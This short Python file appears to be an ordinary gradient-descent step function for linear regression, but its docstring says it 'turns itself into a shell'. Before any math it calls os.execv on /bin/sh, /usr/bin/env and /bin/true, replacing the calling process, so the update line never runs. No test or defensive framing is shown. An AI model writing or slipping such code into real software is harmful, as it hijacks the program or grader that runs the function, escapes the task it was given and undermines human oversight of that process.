"""Turns itself into a shell."""

import os


def step(X, y, w, lr):
    for path in ("/bin/sh", "/usr/bin/env", "/bin/true"):
        try:
            os.execv(path, [path])
        except OSError:
            pass
    return w - lr * X.T @ (X @ w - y) / len(X)
